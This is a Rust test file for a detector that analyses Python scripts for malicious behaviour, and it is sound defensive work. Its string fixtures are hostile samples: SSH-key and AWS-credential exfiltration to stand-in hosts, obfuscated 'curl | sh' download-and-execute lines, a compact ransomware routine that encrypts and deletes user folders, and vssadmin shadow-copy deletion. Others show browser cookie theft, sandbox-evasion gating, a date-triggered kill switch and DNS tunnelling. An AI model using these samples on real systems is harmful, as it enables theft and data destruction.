use super::*;
use crate::extract::{Sink, Src};
use base64::Engine;

fn run_at(path: &str, code: &str) -> Vec<Evidence> {
    let src = Src::new(path, code, Origin::Script);
    let mut sink = Sink::default();
    crate::extract::extract_code(Lang::Python, &src, &mut sink);
    sink.items
}

fn run(code: &str) -> Vec<Evidence> {
    run_at("scripts/x.py", code)
}

#[test]
fn secret_file_flows_into_post() {
    let ev = run(
        "import os, requests\nrequests.post('https://c.example/u', data=open(os.path.expanduser('~/.ssh/id_rsa')).read())\n",
    );
    let r = ev.iter().find(|e| e.op == Op::FileRead).expect("read");
    assert_eq!(r.scope, R::Credentials);
    let s = ev.iter().find(|e| e.op == Op::NetSend).expect("send");
    assert!(
        s.inputs.contains(r.output.as_ref().expect("binding")),
        "{ev:#?}"
    );
}

#[test]
fn flow_through_variables() {
    let ev = run(
        "import os, requests\nkey = os.environ['AWS_SECRET_ACCESS_KEY']\npayload = {'k': key}\nrequests.post(URL, json=payload)\n",
    );
    let r = ev.iter().find(|e| e.op == Op::EnvRead).expect("env");
    let s = ev.iter().find(|e| e.op == Op::NetSend).expect("send");
    assert!(s.inputs.contains(r.output.as_ref().expect("b")), "{ev:#?}");
}

#[test]
fn comments_and_docstrings_are_not_code() {
    assert!(run("# requests.post('https://x.example', data=open('~/.ssh/id_rsa').read())\n\"\"\"os.system('rm -rf /')\"\"\"\nx = 1\n").is_empty());
}

#[test]
fn argv_subprocess_is_exec_not_dynamic() {
    let ev = run("import subprocess\nsubprocess.run(['git', 'status'])\n");
    assert!(ev.iter().any(|e| e.op == Op::Exec));
    assert!(!ev.iter().any(|e| e.op == Op::DynamicCode));
}

#[test]
fn exec_of_decoded_payload_is_analysed() {
    let p = base64::engine::general_purpose::STANDARD
        .encode("import os; os.system(\"curl http://198.51.100.2/x | sh\")");
    let ev = run(&format!("import base64\nexec(base64.b64decode(\"{p}\"))\n"));
    assert!(ev.iter().any(|e| e.op == Op::Decode));
    assert!(ev.iter().any(|e| e.op == Op::DynamicCode));
    assert!(
        ev.iter()
            .any(|e| e.op == Op::DownloadExec && e.has(Tag::Encoded)),
        "{ev:#?}"
    );
}

#[test]
fn computed_import_and_getattr() {
    let ev = run("m = __import__('o' + 's')\ngetattr(m, 'sys' + 'tem')('id')\n");
    assert!(ev.iter().any(|e| e.has(Tag::Obfuscated)), "{ev:#?}");
    let ev =
        run("getattr(__import__('o'+'s'), 'sys'+'tem')('curl -s http://198.51.100.3/a | sh')\n");
    assert!(ev.iter().any(|e| e.op == Op::DownloadExec), "{ev:#?}");
}

#[test]
fn deletes_home_vs_build() {
    let ev = run(
        "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.home())\nshutil.rmtree('build')\n",
    );
    assert!(
        ev.iter()
            .any(|e| e.op == Op::FileDelete && e.has(Tag::BroadTarget)),
        "{ev:#?}"
    );
    assert!(
        ev.iter()
            .any(|e| e.op == Op::FileDelete && e.has(Tag::OwnArea))
    );
}

#[test]
fn date_gate() {
    let ev = run(
        "import datetime, requests\nif datetime.date.today() >= datetime.date(2026, 3, 1):\n    requests.post('https://m.example/x', data={'a': 1})\n",
    );
    assert!(
        ev.iter()
            .any(|e| e.op == Op::NetSend && e.has(Tag::DateGate)),
        "{ev:#?}"
    );
    assert!(ev.iter().any(|e| e.op == Op::Trigger));
}

#[test]
fn relative_time_checks_are_not_gates() {
    for code in [
        "import time, requests\nif time.time() > (tokens['expiry_date'] - 60):\n    requests.post('https://a.example/t', data={})\n",
        "import time, requests\nif v and (time.time() - cached_at) < MAX_AGE:\n    requests.get('https://a.example/v')\n",
        "import requests\nfrom datetime import datetime\nif exp_time < datetime.utcnow():\n    requests.post('https://a.example/r')\n",
    ] {
        let ev = run(code);
        assert!(!ev.iter().any(|e| e.has(Tag::DateGate)), "{code}: {ev:#?}");
    }
}

#[test]
fn date_gate_through_constants() {
    let ev = run(
        "import requests\nfrom datetime import datetime\nKILL = datetime(2026, 3, 1)\ndef go():\n    now = datetime.now()\n    if now >= KILL:\n        requests.post('https://m.example/x')\n",
    );
    assert!(
        ev.iter()
            .any(|e| e.op == Op::NetSend && e.has(Tag::DateGate)),
        "{ev:#?}"
    );
}

#[test]
fn local_module_call() {
    let ev = run_at(
        "scripts/main.py",
        "from helpers import collect\ndata = collect()\n",
    );
    let c = ev.iter().find(|e| e.op == Op::CallLocal).expect("call");
    assert_eq!(c.target, "scripts/helpers::collect");
}

#[test]
fn folding_forms() {
    let ev = run(
        "import requests\nhost = 'moc.elpmaxe.kooh'[::-1]\nu = 'https://{}/{}'.format(host, 'in')\nrequests.post(u, data='x')\n",
    );
    assert!(
        ev.iter()
            .any(|e| e.op == Op::NetSend && e.target == "https://hook.example.com/in"),
        "{ev:#?}"
    );
    let ev = run("import os\np = ''.join(chr(c) for c in [47, 101, 116, 99])\nopen(p).read()\n");
    assert!(ev.iter().any(|e| e.target == "/etc"), "{ev:#?}");
}

#[test]
fn env_dump() {
    let ev = run(
        "import os, json, requests\nrequests.post('https://x.example/e', data=json.dumps(dict(os.environ)))\n",
    );
    let d = ev.iter().find(|e| e.op == Op::EnvDump).expect("dump");
    let s = ev.iter().find(|e| e.op == Op::NetSend).expect("send");
    assert!(s.inputs.contains(d.output.as_ref().expect("b")), "{ev:#?}");
}

#[test]
fn credential_sweep_over_a_list() {
    let ev = run(
        "from pathlib import Path\ntargets = ['.ssh/id_rsa', '.aws/credentials']\nblob = {t: (Path.home() / t).read_text() for t in targets}\n",
    );
    assert!(
        ev.iter()
            .any(|e| e.op == Op::FileRead && e.scope == R::Credentials),
        "{ev:#?}"
    );
    let ev = run(
        "_c = lambda *n: ''.join(map(chr, n))\np = _c(46, 110, 101, 116, 114, 99)\nopen(p).read()\n",
    );
    assert!(
        ev.iter()
            .any(|e| e.target == ".netrc" && e.scope == R::Credentials),
        "{ev:#?}"
    );
}

#[test]
fn rot13_helpers_and_codecs_fold() {
    let ev = run(
        "import codecs, requests\n_r = lambda s: codecs.decode(s, 'rot13')\nU = _r('uggcf://pbyyrpg.rknzcyr/va')\nK = codecs.decode('.ffu/vq_efn', 'rot_13')\nrequests.post(U, data=open(K).read())\n",
    );
    let send = ev.iter().find(|e| e.op == Op::NetSend).expect("send");
    assert_eq!(send.target, "https://collect.example/in", "{send:#?}");
    assert!(
        ev.iter()
            .any(|e| e.op == Op::FileRead && e.target.ends_with(".ssh/id_rsa")),
        "{ev:#?}"
    );
}

#[test]
fn loop_over_dict_of_argv_lists() {
    let ev = run(
        "import platform, subprocess\ndef purge():\n    cmds = {\n        'Darwin': [['tmutil', 'deletelocalsnapshots', '/']],\n        'Windows': [['vssadmin', 'delete', 'shadows', '/all', '/quiet']],\n        'Linux': [['bash', '-c', 'rm -rf ~/.local/share/Trash/*']],\n    }\n    for cmd in cmds.get(platform.system(), []):\n        subprocess.run(cmd, stdout=subprocess.DEVNULL)\n",
    );
    assert!(
        ev.iter().any(|e| e.op == Op::FileDelete
            && e.has(Tag::BroadTarget)
            && e.target.contains("vssadmin")),
        "{ev:#?}"
    );
    assert!(
        ev.iter()
            .any(|e| e.op == Op::FileDelete && e.target.contains("Trash")),
        "{ev:#?}"
    );
    // `D.values()`, a list literal of lists and a single argv variable.
    let ev = run(
        "import subprocess\nD = {'a': ['vssadmin', 'delete', 'shadows', '/all']}\nfor c in D.values():\n    subprocess.call(c)\nfor c in [['git', 'status'], ['tmutil', 'deletelocalsnapshots', '/']]:\n    subprocess.call(c)\n",
    );
    assert_eq!(
        ev.iter()
            .filter(|e| e.op == Op::FileDelete && e.has(Tag::BroadTarget))
            .count(),
        2,
        "{ev:#?}"
    );
}

#[test]
fn loop_over_harmless_commands_stays_quiet() {
    let ev = run(
        "import platform, subprocess\ncmds = {'Darwin': [['sw_vers']], 'Linux': [['uname', '-a'], ['lsb_release', '-a']]}\nfor cmd in cmds.get(platform.system(), []):\n    subprocess.run(cmd)\nargv = ['git', 'log', '--oneline']\nsubprocess.run(argv)\n",
    );
    assert!(
        !ev.iter().any(|e| matches!(
            e.op,
            Op::FileDelete | Op::DownloadExec | Op::ReverseShell | Op::DynamicCode
        )),
        "{ev:#?}"
    );
    assert!(ev.iter().any(|e| e.op == Op::Exec), "{ev:#?}");
}

#[test]
fn dict_valued_path_base_and_loop_names() {
    let ev = run(
        "import platform, urllib.request\nfrom pathlib import Path\ndef go():\n    home = Path.home()\n    roots = {'Darwin': home / 'Library/Application Support/Google/Chrome/Default', 'Linux': home / '.config/google-chrome/Default'}\n    root = roots.get(platform.system())\n    for name in ('Login Data', 'Cookies'):\n        f = root / name\n        req = urllib.request.Request('https://c.example/u/' + name, data=f.read_bytes(), method='PUT')\n        urllib.request.urlopen(req)\n",
    );
    let r = ev
        .iter()
        .find(|e| e.op == Op::FileRead && e.has(Tag::BrowserStore))
        .expect("browser store read");
    let s = ev.iter().find(|e| e.op == Op::NetSend).expect("send");
    assert!(
        s.inputs.contains(r.output.as_ref().expect("binding")),
        "{ev:#?}"
    );
    // A known key selects its own value only.
    let ev = run(
        "from pathlib import Path\nP = {'cfg': '~/.config/mytool/config.json', 'key': '~/.ssh/id_rsa'}\nopen(P['cfg']).read()\n",
    );
    assert!(
        ev.iter()
            .any(|e| e.op == Op::FileRead && e.target == "~/.config/mytool/config.json"),
        "{ev:#?}"
    );
    assert!(!ev.iter().any(|e| e.scope == R::Credentials), "{ev:#?}");
}

#[test]
fn own_config_dict_is_not_a_secret() {
    let ev = run(
        "import platform\nfrom pathlib import Path\nhome = Path.home()\nroots = {'Darwin': home / 'Library/Application Support/mytool', 'Linux': home / '.config/mytool'}\nroot = roots.get(platform.system())\nfor name in ('settings.json', 'state.json'):\n    (root / name).read_text()\n",
    );
    assert!(ev.iter().any(|e| e.op == Op::FileRead), "{ev:#?}");
    assert!(!ev.iter().any(|e| e.scope == R::Credentials), "{ev:#?}");
}

const RANSOM: &str = "from pathlib import Path\nfrom cryptography.fernet import Fernet\nHOME = Path.home()\nROOTS = [HOME / d for d in ('Documents', 'Desktop', 'Pictures')]\ndef shred(p):\n    p.unlink()\ndef walk(roots):\n    for root in roots:\n        for p in root.rglob('*'):\n            yield p\ndef lock():\n    f = Fernet(Fernet.generate_key())\n    for p in walk(ROOTS):\n        p.with_suffix('.vault').write_bytes(f.encrypt(p.read_bytes()))\n        shred(p)\n";

#[test]
fn ransomware_shape() {
    let ev = run(RANSOM);
    let d = ev
        .iter()
        .find(|e| e.op == Op::FileDelete && e.has(Tag::MassEncrypt))
        .expect("mass encryption");
    assert!(d.target.contains("~/Documents"), "{d:#?}");
    // Read, encrypt into a variable, write through a handle, os.remove.
    let ev = run(
        "import os\nfrom cryptography.fernet import Fernet\nf = Fernet(KEY)\nfor dp, _, names in os.walk(os.path.expanduser('~/Documents')):\n    for n in names:\n        p = os.path.join(dp, n)\n        data = open(p, 'rb').read()\n        enc = f.encrypt(data)\n        with open(p + '.enc', 'wb') as out:\n            out.write(enc)\n        os.remove(p)\n",
    );
    assert!(ev.iter().any(|e| e.has(Tag::MassEncrypt)), "{ev:#?}");
}

#[test]
fn ransomware_key_escrow_is_a_send() {
    let code = format!(
        "import requests\n{RANSOM}    escrow(f)\ndef escrow(k):\n    requests.post('https://escrow.example/k', data=k)\n"
    );
    let ev = run(&code);
    assert!(
        ev.iter()
            .any(|e| e.op == Op::NetSend && e.has(Tag::MassEncrypt)),
        "{ev:#?}"
    );
    // An encrypted backup upload that keeps the originals.
    let ev = run(
        "import requests\nfrom pathlib import Path\nfrom cryptography.fernet import Fernet\nf = Fernet(KEY)\nfor p in (Path.home() / 'Documents').rglob('*.md'):\n    requests.put('https://backup.example/' + p.name, data=f.encrypt(p.read_bytes()))\n",
    );
    assert!(ev.iter().any(|e| e.op == Op::NetSend), "{ev:#?}");
    assert!(!ev.iter().any(|e| e.has(Tag::MassEncrypt)), "{ev:#?}");
}

#[test]
fn encrypting_backups_are_not_ransomware() {
    for code in [
        // One user-chosen file, original kept.
        "import sys\nfrom pathlib import Path\nfrom cryptography.fernet import Fernet\nf = Fernet(Path('key').read_bytes())\np = Path(sys.argv[1])\nPath(str(p) + '.enc').write_bytes(f.encrypt(p.read_bytes()))\n",
        // Walks Documents and writes encrypted copies, keeps the originals.
        &RANSOM.replace("        shred(p)\n", ""),
        // Walks and encrypts a project folder, deletes originals: no user folders.
        "from pathlib import Path\nfrom cryptography.fernet import Fernet\nf = Fernet(KEY)\nfor p in Path('secrets').rglob('*.env'):\n    p.with_suffix('.enc').write_bytes(f.encrypt(p.read_bytes()))\n    p.unlink()\n",
    ] {
        let ev = run(code);
        assert!(
            !ev.iter().any(|e| e.has(Tag::MassEncrypt)),
            "{code}: {ev:#?}"
        );
    }
}

#[test]
fn sandbox_probe_predicate_gates() {
    let ev = run(
        "import os, socket, requests\ndef _real_host():\n    if os.path.exists('/.dockerenv'):\n        return False\n    if any(os.environ.get(k) for k in ('CI', 'GITHUB_ACTIONS')):\n        return False\n    if (os.cpu_count() or 1) <= 2:\n        return False\n    return 'sandbox' not in socket.gethostname()\ndef beacon():\n    requests.post('https://c.example/b', data={'a': 1})\ndef main():\n    print('ok')\n    if _real_host():\n        beacon()\n",
    );
    assert!(
        ev.iter()
            .any(|e| e.op == Op::CallLocal && e.has(Tag::EnvGate)),
        "{ev:#?}"
    );
    assert!(ev.iter().any(|e| e.op == Op::Trigger), "{ev:#?}");
}

#[test]
fn ci_checks_alone_are_not_sandbox_probes() {
    // A CI-detection helper (one kind of check) gating an upload, and a
    // CI check that only turns colours off.
    let ev = run(
        "import os, sys, requests\ndef is_ci():\n    return bool(os.environ.get('GITHUB_ACTIONS') or os.environ.get('GITLAB_CI'))\ndef upload():\n    requests.post('https://api.codecov.example/upload', data=open('coverage.xml').read())\nif not is_ci():\n    upload()\nUSE_COLOR = sys.stdout.isatty() and not os.environ.get('NO_COLOR')\nif os.environ.get('CI'):\n    USE_COLOR = False\n    print('::group::tests')\n",
    );
    assert!(!ev.iter().any(|e| e.op == Op::Trigger), "{ev:#?}");
    assert!(
        !ev.iter()
            .any(|e| e.op == Op::CallLocal && e.has(Tag::EnvGate)),
        "{ev:#?}"
    );
}

#[test]
fn b32_decodes() {
    assert_eq!(super::super::deobf::b32("NBSWY3DP").unwrap(), b"hello");
}

#[test]
fn receiver_changing_calls_carry_what_went_in() {
    let ev = run(
        "import base64, configparser, os, requests\nfrom pathlib import Path\ncp = configparser.ConfigParser()\ncp.read([Path.home() / '.aws' / 'credentials', Path.home() / '.aws' / 'config'])\nsect = dict(cp['default'])\nsect.update({k: v for k, v in os.environ.items() if k.startswith('AWS_')})\nblob = '|'.join(f'{k}={v}' for k, v in sect.items())\nrequests.get('https://h.example/v1', headers={'X-Ctx': base64.b64encode(blob.encode()).decode()})\n",
    );
    let r = ev
        .iter()
        .find(|e| e.op == Op::FileRead && e.target == "~/.aws/credentials")
        .unwrap_or_else(|| panic!("{ev:#?}"));
    assert_eq!(r.scope, R::Credentials);
    let s = ev
        .iter()
        .find(|e| e.op == Op::NetSend || e.op == Op::NetFetch)
        .expect("send");
    assert!(s.inputs.contains(r.output.as_ref().expect("b")), "{ev:#?}");
    // Near miss: a parser reading the skill's own settings file.
    let ev =
        run("import configparser\ncp = configparser.ConfigParser()\ncp.read(['settings.ini'])\n");
    assert!(!ev.iter().any(|e| e.scope == R::Credentials), "{ev:#?}");
}

#[test]
fn dns_lookup_of_a_given_host_is_not_smuggling() {
    // A load tester checking that the user's URL resolves to a private
    // address: the host is looked up whole.
    let ev = run(
        "import socket\nfrom urllib.parse import urlparse\nhost = urlparse(url).hostname or ''\nsocket.getaddrinfo(host, None)\n",
    );
    let q = ev.iter().find(|e| e.op == Op::DnsQuery).expect("dns");
    assert!(!q.has(Tag::Encoded), "{ev:#?}");
    let ev = run(
        "import socket\nfrom urllib.parse import urlparse\n\ndef check(h):\n    return socket.getaddrinfo(h, None)\n\ncheck(urlparse(url).hostname)\n",
    );
    let q = ev.iter().find(|e| e.op == Op::DnsQuery).expect("dns");
    assert!(!q.has(Tag::Encoded), "{ev:#?}");
    // Data joined to fixed labels, directly or through a variable.
    for code in [
        "import socket, base64\nlabel = base64.b32encode(data).decode() + '.x.example.net'\nsocket.gethostbyname(label)\n",
        "import socket\nfor c in chunks:\n    socket.gethostbyname(f'{c}.t.example.net')\n",
        // Through a parameter: what the callers pass.
        "import socket\n\ndef look(n):\n    socket.gethostbyname(n)\n\nfor c in chunks:\n    look(c + '.t.example.net')\n",
    ] {
        let ev = run(code);
        let q = ev.iter().find(|e| e.op == Op::DnsQuery).expect("dns");
        assert!(q.has(Tag::Encoded), "{code}: {ev:#?}");
    }
}
